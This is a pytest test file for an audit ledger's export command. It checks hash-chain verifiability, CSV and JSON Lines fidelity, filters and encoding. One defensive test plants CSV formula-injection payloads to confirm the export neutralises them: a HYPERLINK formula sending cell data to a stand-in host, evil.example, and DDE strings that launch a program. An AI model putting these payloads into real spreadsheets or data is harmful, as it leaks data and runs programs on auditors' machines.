"""``amem export``: an auditor takes the ledger elsewhere, whole or filtered, with the chain hashes."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import pytest

from amem.cli import main
from amem.domain.hashing import GENESIS_HASH, change_hash, event_hash
from amem.ledger import export_queries
from amem.memory import Memory
from tests.factories import llm_proposer, make_note


def run(memory: Memory, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--database-url", memory.settings.database_url, "--home", str(memory.home), *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture
def ledger(memory: Memory) -> Memory:
    acme = make_note(memory, 'Acme: "renewal", in March — with SSO,\nsecond line', tags=["renewal"])
    make_note(memory, "Globex wants a pilot", scope="globex", tags=["pilot"])
    memory.propose(
        acme.id, "decision_rationale", "auditor asked", reason="stated", proposer=llm_proposer(memory)
    )
    return memory


def test_changes_carry_the_chain_so_it_can_be_checked_from_the_export_alone(
    ledger: Memory, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(ledger, capsys, "export", "changes", "--format", "jsonl")
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    stored = ledger.changes(limit=1000)
    assert [(r["seq"], r["hash"], r["prev_hash"]) for r in rows] == [
        (c.seq, c.hash, c.prev_hash) for c in stored
    ]
    previous = GENESIS_HASH
    for row in rows:
        assert row["prev_hash"] == previous
        actor_kind, actor_id = row["actor"].split(":", 1)
        assert row["hash"] == change_hash(  # each row's content, not only its link, is checkable
            prev_hash=previous,
            seq=row["seq"],
            note_id=row["note_id"],
            proposal_id=row["proposal_id"],
            attribute=row["attribute"],
            old_value=row["old_value"],
            new_value=row["new_value"],
            note_version=row["note_version"],
            actor_kind=actor_kind,
            actor_id=actor_id,
            kind=row["kind"],
            applied_at=datetime.fromisoformat(row["applied_at"]),
        )
        previous = row["hash"]
    assert {r["scope"] for r in rows} == {"acme", "globex"}
    assert rows[0]["attribute"] == "content" and rows[0]["actor"] == "agent:sales-agent"


def test_csv_keeps_text_exact_and_filters_by_scope_and_time(
    ledger: Memory, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(ledger, capsys, "export", "raw-logs", "--format", "csv", "--scope", "acme")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["text"] for r in rows] == ['Acme: "renewal", in March — with SSO,\nsecond line']
    assert rows[0]["actor"] == "agent:sales-agent" and json.loads(rows[0]["metadata"]) == {}

    code, out, _ = run(ledger, capsys, "export", "proposals", "--format", "csv")
    proposals = list(csv.DictReader(io.StringIO(out)))
    pending = [p for p in proposals if p["status"] == "pending"]
    assert [(p["attribute"], p["new_value"], p["proposer"]) for p in pending] == [
        ("decision_rationale", "auditor asked", "llm:offline")
    ]
    assert json.loads(next(p for p in proposals if p["attribute"] == "tags")["new_value"]) in (
        ["renewal"],
        ["pilot"],
    )

    newest = max(c.applied_at for c in ledger.changes(limit=1000))
    code, out, _ = run(ledger, capsys, "export", "changes", "--until", "2000-01-01T00:00:00Z")
    assert code == 0 and out == ""
    code, out, _ = run(ledger, capsys, "export", "changes", "--since", newest.isoformat())
    assert [json.loads(line)["applied_at"] for line in out.splitlines()] == [newest.isoformat()]


def test_export_to_a_file_says_how_many_rows(
    ledger: Memory, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "changes.csv"
    code, out, err = run(ledger, capsys, "export", "changes", "--format", "csv", "--output", str(target))
    assert code == 0 and out == ""
    count = len(ledger.changes(limit=1000))
    assert err.strip() == f"{count} changes written to {target}"
    assert len(list(csv.DictReader(target.open(encoding="utf-8", newline="")))) == count


def test_rows_are_read_page_by_page_in_ledger_order(ledger: Memory) -> None:
    with ledger.ledger.read() as tx:
        whole = list(export_queries.iter_rows(tx, "changes"))
        paged = list(export_queries.iter_rows(tx, "changes", page=3))
    assert paged == whole and len(whole) == 4  # two notes, each created and tagged
    assert [r["seq"] for r in whole] == sorted(r["seq"] for r in whole)


def test_export_mistakes_are_one_line(ledger: Memory, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(ledger, capsys, "export", "changes", "--since", "last week")
    assert code == 2 and "--since: 'last week' is not an ISO 8601" in err
    code, _, err = run(ledger, capsys, "export", "changes", "-o", "/nonexistent-dir/x.csv")
    assert code == 2 and err.strip().startswith("error: cannot write /nonexistent-dir/x.csv")


def test_the_event_chain_and_each_raw_log_and_proposal_event_can_be_checked_from_the_export(
    ledger: Memory, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(ledger, capsys, "export", "events", "--format", "jsonl")
    assert code == 0, err
    chain = [json.loads(line) for line in out.splitlines()]
    previous = GENESIS_HASH
    for row in chain:  # every link recomputed from the exported row alone
        assert row["prev_hash"] == previous
        assert row["hash"] == event_hash(
            prev_hash=previous,
            seq=row["seq"],
            kind=row["kind"],
            subject=row["subject"],
            payload_digest=row["payload_digest"],
            at=datetime.fromisoformat(row["at"]),
        )
        previous = row["hash"]
    by_seq = {row["seq"]: row for row in chain}
    for kind, event_kind in (("raw-logs", "raw_log"), ("proposals", "proposal")):
        code, out, err = run(ledger, capsys, "export", kind, "--format", "csv")
        assert code == 0, err
        rows = list(csv.DictReader(io.StringIO(out)))
        assert rows, kind
        for row in rows:  # each row names its own event, and that event is in the chain
            event = by_seq[int(row["event_seq"])]
            own = (event_kind, row["id"], row["event_hash"])
            assert (event["kind"], event["subject"], event["hash"]) == own


def test_the_event_chain_has_no_scope(ledger: Memory, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(ledger, capsys, "export", "events", "--scope", "acme", "--format", "csv")
    assert code == 2 and out == ""
    assert err.strip() == "error: the event chain spans every scope: --scope does not apply to events"


def test_erasures_can_be_checked_from_the_export(ledger: Memory, capsys: pytest.CaptureFixture[str]) -> None:
    """Each row an erasure redacted, with its digests: an auditor recomputes what each erasure's
    rows_sha256 commits to, and finds its event in the exported chain, from the export alone."""
    from amem.domain.hashing import erased_rows_digest, payload_digest
    from tests.factories import signed_in

    alice = signed_in(ledger, "alice")
    acme = ledger.notes(scope="acme")[0]
    first = ledger.erase(by=alice, reason="her request", raw_log_id=acme.raw_log_ids[0])
    second = ledger.erase(by=alice, reason="the account closed", scope="globex")

    code, out, err = run(ledger, capsys, "export", "erasures", "--format", "jsonl")
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["erasure_id"] for r in rows[:1] + rows[-1:]] == [first.erasure_id, second.erasure_id]
    _, events_out, _ = run(ledger, capsys, "export", "events", "--format", "jsonl")
    chain = {e["seq"]: e for e in map(json.loads, events_out.splitlines())}
    for erasure_id in (first.erasure_id, second.erasure_id):
        mine = [r for r in rows if r["erasure_id"] == erasure_id]
        assert {r["table_name"] for r in mine} >= {"raw_logs", "changes"}
        head = mine[0]
        assert erased_rows_digest(mine) == head["rows_sha256"]
        event = chain[head["event_seq"]]
        assert (event["kind"], event["subject"], event["hash"]) == ("erasure", erasure_id, head["event_hash"])
        record = {**head, "id": erasure_id, "erased_at": datetime.fromisoformat(head["erased_at"])}
        assert payload_digest("erasure", record) == event["payload_digest"]

    with ledger.ledger.read() as tx:  # a page boundary inside one erasure's rows loses nothing
        paged = list(export_queries.iter_rows(tx, "erasures", page=2))
    assert [(r["erasure_id"], r["table_name"], r["row_key"]) for r in paged] == [
        (r["erasure_id"], r["table_name"], r["row_key"]) for r in rows
    ]
    code, out, err = run(ledger, capsys, "export", "erasures", "--since", "2999-01-01T00:00:00Z")
    assert code == 0 and out == ""
    code, out, err = run(ledger, capsys, "export", "erasures", "--scope", "acme")
    assert code == 2 and "--scope does not apply to erasures" in err


def test_each_token_event_can_be_recomputed_from_the_export(
    ledger: Memory, capsys: pytest.CaptureFixture[str]
) -> None:
    """The chain's token events carry only digests: the tokens export holds each record, so an
    auditor recomputes every token event's payload digest and finds it in the exported chain."""
    from amem.domain.hashing import payload_digest
    from tests.factories import signed_in

    ledger.tokens.create("alice", "reviewer", by=signed_in(ledger, "alice"), expires_in_days=30)
    ledger.tokens.create("crm-sync", "agent", scopes=["acme"])  # its limit, on the record too
    ledger.tokens.revoke("crm-sync")
    code, out, err = run(ledger, capsys, "export", "tokens", "--format", "jsonl")
    assert code == 0, err
    tokens = [json.loads(line) for line in out.splitlines()]
    assert [(t["action"], t["name"], t["scopes"]) for t in tokens] == [
        ("created", "alice", None),
        ("created", "crm-sync", ["acme"]),
        ("revoked", "crm-sync", ["acme"]),
    ]
    code, out, _ = run(ledger, capsys, "export", "events", "--format", "jsonl")
    chain = {row["seq"]: row for row in map(json.loads, out.splitlines())}
    for token in tokens:
        event = chain[token["event_seq"]]
        fields = ("id", "token_id", "action", "name", "role", "by", "scopes", "token_sha256")
        record = {k: token[k] for k in fields}
        record |= {k: datetime.fromisoformat(token[k]) if token[k] else None for k in ("at", "expires_at")}
        assert (event["kind"], event["subject"], event["hash"]) == ("token", token["id"], token["event_hash"])
        assert event["payload_digest"] == payload_digest("token", record)
    code, _, err = run(ledger, capsys, "export", "tokens", "--scope", "acme")
    assert code == 2 and "--scope does not apply to tokens" in err


def test_each_proposal_and_model_call_event_can_be_recomputed_from_the_export(
    ledger: Memory, capsys: pytest.CaptureFixture[str]
) -> None:
    """A proposal's evidence, usage and policy digest, and the model call behind it, are on the
    record: an auditor recomputes each one's event from the export alone, and reads the answer of
    the call a proposal names."""
    from amem.domain.hashing import payload_digest

    for scope in ("acme", "globex"):  # analysed: the offline analyst's calls are recorded too
        text = f"{scope} renews in March because the SSO blocker is gone"
        ledger.add_note(text, scope=scope, actor="agent:a")
    code, out, _ = run(ledger, capsys, "export", "events", "--format", "jsonl")
    chain = {row["seq"]: row for row in map(json.loads, out.splitlines())}
    code, out, err = run(ledger, capsys, "export", "llm-calls", "--format", "jsonl")
    assert code == 0, err
    calls = {row["id"]: row for row in map(json.loads, out.splitlines())}
    assert calls and all(c["response_text"] for c in calls.values())
    for call in calls.values():
        event = chain[call["event_seq"]]
        record = call | {"created_at": datetime.fromisoformat(call["created_at"])}
        own = ("llm_call", call["id"], call["event_hash"])
        assert (event["kind"], event["subject"], event["hash"]) == own
        assert event["payload_digest"] == payload_digest("llm_call", record)
    code, out, err = run(ledger, capsys, "export", "proposals", "--format", "jsonl")
    proposals = [json.loads(line) for line in out.splitlines()]
    assert {p["llm_call_id"] for p in proposals if p["llm_call_id"]} <= set(calls)
    for proposal in proposals:
        kind, _, ident = proposal["proposer"].partition(":")
        record = proposal | {"proposer_kind": kind, "proposer_id": ident}
        record["created_at"] = datetime.fromisoformat(proposal["created_at"])
        assert chain[proposal["event_seq"]]["payload_digest"] == payload_digest("proposal", record)
    code, out, _ = run(ledger, capsys, "export", "llm-calls", "--scope", "globex", "--format", "jsonl")
    globex = [json.loads(line) for line in out.splitlines()]
    assert globex and {c["scope"] for c in globex} == {"globex"} and len(globex) < len(calls)


def test_csv_cells_an_agent_wrote_never_run_as_formulas_in_a_spreadsheet(
    memory: Memory, capsys: pytest.CaptureFixture[str]
) -> None:
    """An auditor opens the CSV in a spreadsheet: an input starting like a formula would run there
    (send the sheet away, start a program). It is shown as text; JSON Lines keeps it exact."""
    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"click for details")'
    note = make_note(memory, payload, tags=["+cmd|' /C calc'!A0"])
    memory.propose(
        note.id,
        "decision_rationale",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        reason="r",
        proposer=llm_proposer(memory),
    )
    for kind, text_column in (("raw-logs", "text"), ("changes", "new_value"), ("proposals", "new_value")):
        code, out, err = run(memory, capsys, "export", kind, "--format", "csv")
        assert code == 0, err
        rows = list(csv.DictReader(io.StringIO(out)))
        assert "'" + payload in [row[text_column] for row in rows], kind
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], kind

    code, out, _ = run(memory, capsys, "export", "raw-logs", "--format", "jsonl")
    assert [json.loads(line)["text"] for line in out.splitlines()] == [payload]


def test_a_text_holding_a_lone_carriage_return_stays_in_its_csv_row(
    memory: Memory, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Before: rows ended in a bare LF, so the csv module left a cell holding a lone CR (an old Mac
    line break in an input) unquoted, and every reader split its row there."""
    text = "Call notes:\rAcme wants 40 seats"
    make_note(memory, text)
    make_note(memory, "Second call")
    target = tmp_path / "raw-logs.csv"
    code, _, err = run(memory, capsys, "export", "raw-logs", "--format", "csv", "-o", str(target))
    assert code == 0, err
    header, *rows = csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline=""))
    assert [len(row) for row in rows] == [len(header)] * 2
    assert [dict(zip(header, row, strict=True))["text"] for row in rows] == [text, "Second call"]


def test_csv_starts_with_a_byte_order_mark_and_imports_back(
    ledger: Memory, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A spreadsheet reads a CSV without a byte order mark in the machine's code page ("Müller" as
    "MÃ¼ller"): the export starts with one, to a file and to standard output, as the console's audit
    CSV does; `amem import` reads the export back."""
    make_note(ledger, "Müller from 北京 wants 40 seats")
    target = tmp_path / "raw-logs.csv"
    code, _, err = run(ledger, capsys, "export", "raw-logs", "--format", "csv", "-o", str(target))
    assert code == 0, err
    assert target.read_bytes().startswith(b"\xef\xbb\xbfseq,")
    code, out, err = run(ledger, capsys, "export", "raw-logs", "--format", "csv")
    assert code == 0, err
    assert out.startswith("\ufeffseq,") and out.encode("utf-8") == target.read_bytes()
    code, out, err = run(ledger, capsys, "export", "raw-logs", "--format", "jsonl")
    assert not out.startswith("\ufeff")  # JSON Lines stays exact

    texts = [row["text"] for row in ledger.export("raw_logs")]
    copy = Memory(tmp_path / "copy", database_url=f"sqlite:///{tmp_path / 'copy.sqlite3'}")
    try:
        code, out, err = run(
            copy, capsys, "import", str(target), "--content-column", "text", "--at-column", "occurred_at"
        )
        assert code == 0, err
        assert sorted(r["text"] for r in copy.export("raw_logs")) == sorted(texts)
    finally:
        copy.close()


def test_an_export_to_a_standard_output_not_in_utf8_is_written_whole_in_utf8(
    memory: Memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: a Windows redirect or a Latin-1 locale (PYTHONIOENCODING=cp1252) stopped the export at
    its first Chinese character, "internal error (UnicodeEncodeError)", the file cut after the rows
    before it."""
    make_note(memory, "Plain ASCII first")
    make_note(memory, "Müller from 北京 wants 40 seats")
    for fmt in ("jsonl", "csv"):
        stdout = io.TextIOWrapper(io.BytesIO(), encoding="cp1252", newline="")
        monkeypatch.setattr("sys.stdout", stdout)
        options = ["--database-url", memory.settings.database_url, "--home", str(memory.home)]
        assert main([*options, "export", "raw-logs", "--format", fmt]) == 0, fmt
        stdout.flush()
        written = stdout.buffer.getvalue().decode("utf-8")  # type: ignore[attr-defined]
        if fmt == "jsonl":
            texts = [json.loads(line)["text"] for line in written.splitlines()]
        else:
            texts = [row["text"] for row in csv.DictReader(io.StringIO(written.removeprefix("\ufeff")))]
        assert texts == ["Plain ASCII first", "Müller from 北京 wants 40 seats"], fmt
